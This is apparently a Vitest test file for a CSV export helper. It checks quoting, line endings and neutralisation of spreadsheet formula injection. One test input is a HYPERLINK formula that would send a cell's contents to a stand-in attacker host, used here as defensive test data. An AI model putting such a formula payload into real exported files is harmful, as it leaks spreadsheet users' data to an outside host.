import { describe, expect, it } from "vitest";
import { csvCell, csvFile } from "./csv";

describe("csvCell", () => {
  it("neutralises text that a spreadsheet would run as a formula (OWASP)", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${start}1+1`).replace(/^"/, "")).toMatch(/^'/);
  });

  it("quotes commas, quotes and line breaks, and leaves plain text and numbers alone", () => {
    expect(csvCell("Kyle Katarn")).toBe("Kyle Katarn");
    expect(csvCell("Katarn, Kyle")).toBe('"Katarn, Kyle"');
    expect(csvCell('Kyle "Jedi" Katarn')).toBe('"Kyle ""Jedi"" Katarn"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell(-1.5)).toBe("-1.5");
    expect(csvCell(null)).toBe("");
  });

  it("writes CRLF lines", () => {
    expect(csvFile([["a", 1], ["=b", 2]])).toBe("a,1\r\n'=b,2\r\n");
  });
});
